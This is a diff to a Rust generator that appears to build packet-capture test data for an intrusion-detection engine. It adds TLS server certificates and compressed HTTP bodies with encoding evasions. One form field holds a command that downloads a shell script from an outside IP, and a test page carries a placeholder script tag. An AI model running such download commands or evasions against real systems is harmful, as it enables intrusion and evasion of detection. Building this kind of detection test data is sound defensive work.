@@ -8,7 +8,9 @@
 //! Hand-written cases: realistic attacks over HTTP/1.1 (SQL injection, path traversal, shell
 //! commands, scanners' user agents, exploit URIs), responses that give an attack away, the
 //! same conversations cut into 1-7 byte segments, keep-alive connections, raw TCP payloads for
-//! `local.rules`, TLS ClientHellos and DNS-over-TCP queries. With the ET Open directory, also
+//! `local.rules`, TLS ClientHellos, TLS 1.2 server certificates, compressed HTTP bodies (and
+//! their evasions: mislabelled, double, truncated, plain with a label) and DNS-over-TCP
+//! queries. With the ET Open directory, also
 //! one conversation per sampled ET rule, built from the rule's own contents (`et_*.pcap`), so
 //! that agreement is measured on rules that fire. Every flow has its own client port.
 //!
@@ -414,6 +416,118 @@ fn client_hello(sni: &str, seed: u8) -> Vec<u8> {
     rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
     rec.extend_from_slice(&hs);
     rec
+}
+
+/// Bodies in content codings, and the evasions around them: (request, response).
+fn compressed_exchanges() -> Vec<(Vec<u8>, Vec<u8>)> {
+    use std::io::Write;
+    fn gzip(b: &[u8]) -> Vec<u8> {
+        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(b).expect("in memory");
+        e.finish().expect("in memory")
+    }
+    fn zlib(b: &[u8]) -> Vec<u8> {
+        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(b).expect("in memory");
+        e.finish().expect("in memory")
+    }
+    fn raw(b: &[u8]) -> Vec<u8> {
+        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(b).expect("in memory");
+        e.finish().expect("in memory")
+    }
+    let page: Vec<u8> = [
+        &b"<html><head><title>shop</title></head><body>"[..],
+        &b"x".repeat(3000),
+        b"<script>evil.payload()</script></body></html>",
+    ]
+    .concat();
+    let ok = || request("GET", "/index.html", &[("User-Agent", UA)], b"");
+    let mut out = Vec::new();
+    let truncated = {
+        let g = gzip(&page);
+        g[..g.len() * 3 / 4].to_vec()
+    };
+    for (coding, body) in [
+        ("gzip", gzip(&page)),
+        ("x-gzip", gzip(&page)),
+        ("deflate", zlib(&page)),
+        ("deflate", raw(&page)),
+        ("deflate", gzip(&page)),
+        ("gzip", zlib(&page)),
+        ("gzip, gzip", gzip(&gzip(&page))),
+        ("gzip", truncated),
+        ("gzip", page.clone()),
+        ("identity", page.clone()),
+    ] {
+        let resp = response(
+            "200 OK",
+            &[("Content-Type", "text/html"), ("Content-Encoding", coding)],
+            &body,
+        );
+        out.push((ok(), resp));
+    }
+    // A request body: gzip, and plain with a gzip label.
+    let form = b"user=alice&cmd=wget http://203.0.113.9/x.sh&x=1".to_vec();
+    for (coding, body) in [("gzip", gzip(&form)), ("gzip", form.clone())] {
+        let req = request(
+            "POST",
+            "/upload",
+            &[
+                ("Content-Type", "application/x-www-form-urlencoded"),
+                ("Content-Encoding", coding),
+            ],
+            &body,
+        );
+        out.push((req, response("200 OK", &[], b"ok")));
+    }
+    out
+}
+
+/// A fixed Ed25519 key (its signatures are deterministic, so the corpus is too).
+const CERT_KEY: &str = "-----BEGIN PRIVATE KEY-----
+MC4CAQAwBQYDK2VwBCIEIOveFelGk+vr3A8TBGwmc8leL8+eVply/Cmk1ETGd9uy
+-----END PRIVATE KEY-----
+";
+
+/// A certificate for `cn` in organization `org`, serial `serial`, issued by itself.
+fn certificate(cn: &str, org: &str, serial: &[u8]) -> Vec<u8> {
+    let mut p = rcgen::CertificateParams::new(vec![cn.to_owned()]).expect("params");
+    p.distinguished_name = rcgen::DistinguishedName::new();
+    p.distinguished_name.push(rcgen::DnType::CountryName, "US");
+    p.distinguished_name.push(rcgen::DnType::OrganizationName, org);
+    p.distinguished_name.push(rcgen::DnType::CommonName, cn);
+    p.serial_number = Some(rcgen::SerialNumber::from_slice(serial));
+    p.not_before = rcgen::date_time_ymd(2024, 1, 1);
+    p.not_after = rcgen::date_time_ymd(2034, 1, 1);
+    let key = rcgen::KeyPair::from_pem(CERT_KEY).expect("key");
+    p.self_signed(&key).expect("certificate").der().to_vec()
+}
+
+/// A TLS 1.2 server's first flight: ServerHello, Certificate with `certs`, ServerHelloDone.
+fn server_flight(certs: &[Vec<u8>], seed: u8) -> Vec<u8> {
+    let mut hello = vec![0x03, 0x03];
+    hello.extend((0..32u8).map(|i| i.wrapping_mul(13).wrapping_add(seed)));
+    hello.push(0);
+    hello.extend_from_slice(&[0xc0, 0x2f, 0x00]);
+    hello.extend_from_slice(&[0x00, 0x05, 0xff, 0x01, 0x00, 0x01, 0x00]);
+    let mut list = Vec::new();
+    for c in certs {
+        list.extend_from_slice(&(c.len() as u32).to_be_bytes()[1..]);
+        list.extend_from_slice(c);
+    }
+    let mut cert_body = (list.len() as u32).to_be_bytes()[1..].to_vec();
+    cert_body.extend(list);
+    let mut out = Vec::new();
+    for (kind, body) in [(2u8, hello), (11, cert_body), (14, Vec::new())] {
+        let mut msg = vec![kind];
+        msg.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
+        msg.extend(body);
+        out.extend_from_slice(&[0x16, 0x03, 0x03]);
+        out.extend_from_slice(&(msg.len() as u16).to_be_bytes());
+        out.extend(msg);
+    }
+    out
 }
 
 /// A DNS query for `name`, framed for TCP.
@@ -844,5 +958,40 @@ fn main() -> std::io::Result<()> {
             p.write(&out.join(name))?;
         }
     }
+
+    // Server certificates: a known-bad leaf with its issuer, and a benign one; whole and
+    // in tiny segments.
+    let mut p = Pcap::new();
+    let bad = certificate("evil.example", "Evil Org", &[0x0a, 0xe1, 0xe6]);
+    let ca = certificate("Evil Root", "Evil Root Org", &[0x01]);
+    let good = certificate("shop.internal.example", "Internal", &[0x42]);
+    for (i, (sni, chain)) in [
+        ("evil.example", vec![bad.clone(), ca.clone()]),
+        ("shop.internal.example", vec![good.clone()]),
+        ("evil.example", vec![bad, ca]),
+        ("shop.internal.example", vec![good]),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        let mut c = p.conv(&mut ports, 443);
+        let sizes = if i < 2 { WHOLE } else { TINY };
+        c.send(true, &client_hello(sni, 100 + i as u8), sizes);
+        c.send(false, &server_flight(&chain, i as u8), sizes);
+        c.close();
+    }
+    p.write(&out.join("tls_certs.pcap"))?;
+
+    // Compressed bodies, whole and in tiny segments.
+    let mut p = Pcap::new();
+    for sizes in [WHOLE, TINY] {
+        for (req, resp) in compressed_exchanges() {
+            let mut c = p.conv(&mut ports, 80);
+            c.send(true, &req, sizes);
+            c.send(false, &resp, sizes);
+            c.close();
+        }
+    }
+    p.write(&out.join("http_compressed.pcap"))?;
     Ok(())
 }
